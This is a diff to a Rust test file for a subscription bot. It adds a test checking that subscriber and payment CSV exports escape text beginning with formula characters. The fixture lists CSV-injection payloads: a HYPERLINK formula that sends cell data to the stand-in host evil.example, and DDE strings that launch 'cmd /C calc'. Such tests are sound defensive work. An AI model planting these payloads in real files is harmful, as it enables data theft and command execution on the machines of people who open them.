@@ -171,6 +171,51 @@ async fn memberships_and_subscribers_export_their_rows() {
     assert_eq!(subs[1][3], "Ann, \"the\" buyer");
 }
 
+/// Text that a spreadsheet would run as a formula, one per character a formula starts with.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+];
+
+/// A buyer's display name, and a payment's reference, starting with each formula character
+/// reach the file with a leading `'` (a spreadsheet shows them as text); the amount beside
+/// them stays a number.
+#[tokio::test]
+async fn exports_write_formula_text_as_text() {
+    let app = TestApp::spawn().await;
+    let db = app.db().await;
+    for (i, text) in FORMULAS.iter().enumerate() {
+        let s = app.create_subscriber(9300 + i as i64).await;
+        // As the bot stores a Telegram name: whatever the buyer typed.
+        db.execute(
+            "UPDATE subscribers SET display_name = $1 WHERE id = $2",
+            &[text, &(id(&s) as i32)],
+        )
+        .await
+        .unwrap();
+        let payment = json!({"reference": text, "amount_minor": 100 + i as i64, "currency": "UAH"});
+        app.pay_order(&payment, &format!("pay_formula_{i}"))
+            .await
+            .expect(200);
+    }
+    let subs = records(&app.get("/api/subscribers.csv").await.bytes);
+    let payments = records(&app.get("/api/payments.csv").await.bytes);
+    assert_eq!((subs.len(), payments.len()), (7, 7));
+    for (i, text) in FORMULAS.iter().enumerate() {
+        assert_eq!(subs[i + 1][3], format!("'{text}"), "display name {text:?}");
+        assert_eq!(payments[i + 1][3], format!("'{text}"), "reference {text:?}");
+        assert_eq!(
+            payments[i + 1][7],
+            (100 + i).to_string(),
+            "an amount is a number"
+        );
+    }
+}
+
 #[tokio::test]
 async fn an_export_refuses_what_its_list_refuses() {
     let app = TestApp::spawn().await;
